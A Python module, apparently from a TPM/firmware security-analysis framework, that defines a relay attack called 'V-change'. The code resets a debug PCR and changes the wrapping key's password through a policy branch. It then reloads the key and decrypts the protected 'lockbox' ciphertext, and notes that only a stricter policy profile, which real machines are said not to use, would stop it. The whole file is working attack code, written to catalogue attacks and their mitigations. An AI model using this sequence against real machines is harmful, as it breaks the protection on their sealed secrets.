"""V: the wrapping key of real machines, taken over by its branch B (relay.json)."""

from __future__ import annotations

from typing import Final

from pefstack.firmware.hypervisor.relay.course import Step
from pefstack.firmware.hypervisor.relay.empty_auth import NEW_AUTH, OWN_PASSWORD
from pefstack.firmware.hypervisor.relay.hands import EMPTY
from pefstack.firmware.hypervisor.relay.honest import Attack, Honest
from pefstack.firmware.hypervisor.relay.wire import (
    RawCommand,
    handle_of,
    parameters_of,
    rc_of,
    sized_values,
)
from pefstack.firmware.pef_objects import (
    DEBUG_PCR,
    PARENT,
    PROFILES,
    either,
    wrapping_policies,
)
from pefstack.hw.tpm.codes import TpmAlgId, TpmCc, TpmRh
from pefstack.hw.tpm.public import TPMT_PUBLIC
from pefstack.hw.tpm.structures import (
    put_digests,
    put_tpm2b,
    put_uint16,
    put_uint32,
    whole,
)


def _take_over(relay: Honest, command: bytes) -> bytes:
    """Change the password, load the key again with it, decrypt the lockbox."""
    public = _public(relay)
    profile = _profile(public)
    answer = _change_password(relay, profile)
    if rc_of(answer):
        return answer
    (private,) = sized_values(parameters_of(TpmCc.OBJECT_CHANGE_AUTH, answer), 1)
    body = put_tpm2b(private) + put_tpm2b(public)
    loaded = handle_of(relay.hands.by_password(TpmCc.LOAD, (PARENT,), body))
    cipher_text = sized_values(RawCommand.from_bytes(command).parameters, 1)[0]
    return _decrypt(relay, profile, loaded, cipher_text)


def _public(relay: Honest) -> bytes:
    raw = relay.hands.plain(TpmCc.READ_PUBLIC, (relay.known.wrapping_key,))
    return sized_values(parameters_of(TpmCc.READ_PUBLIC, raw), 1)[0]


def _profile(public: bytes) -> str:
    """Which of the known policies the key has."""
    policy = whole(TPMT_PUBLIC, public).auth_policy
    found = [name for name in PROFILES if either(wrapping_policies(name)) == policy]
    return found[0] if found else PROFILES[0]


def _branch(relay: Honest, profile: str, policy: int) -> bytes:
    digests = put_digests(list(wrapping_policies(profile)))
    return relay.hands.plain(TpmCc.POLICY_OR, (policy,), digests)


def _change_password(relay: Honest, profile: str) -> bytes:
    """ObjectChangeAuth under branch B; the first answer that is a refusal."""
    hands = relay.hands
    hands.by_password(TpmCc.PCR_RESET, (DEBUG_PCR,))
    own = hands.start().handle
    code = put_uint32(TpmCc.OBJECT_CHANGE_AUTH)
    hands.plain(TpmCc.POLICY_COMMAND_CODE, (own,), code)
    answer = hands.policy_pcr(own, DEBUG_PCR)
    if profile == "strict":
        answer = hands.policy_secret(int(TpmRh.PLATFORM), own, b"")
    if rc_of(answer):
        return answer
    _branch(relay, profile, own)
    handles = relay.known.wrapping_key, PARENT
    return hands.by_policy(TpmCc.OBJECT_CHANGE_AUTH, handles, own, NEW_AUTH)


def _decrypt(relay: Honest, profile: str, key: int, cipher_text: bytes) -> bytes:
    """RSA_Decrypt under branch A, the password in clear."""
    hands = relay.hands
    own = hands.start().handle
    hands.plain(TpmCc.POLICY_COMMAND_CODE, (own,), put_uint32(TpmCc.RSA_DECRYPT))
    hands.plain(TpmCc.POLICY_PASSWORD, (own,))
    _branch(relay, profile, own)
    body = put_tpm2b(cipher_text) + put_uint16(TpmAlgId.NULL) + EMPTY
    return hands.by_policy(TpmCc.RSA_DECRYPT, (key,), own, body, OWN_PASSWORD)


LOCKBOX: Final = {
    "V-change": Attack(
        what="Changes the wrapping key's password under branch B, loads the copy and "
        "decrypts the lockbox with it.",
        stopped_by="PolicySecret(platform) in branch B: profile strict, not real",
        before={Step.RSA_DECRYPT: _take_over},
    ),
}
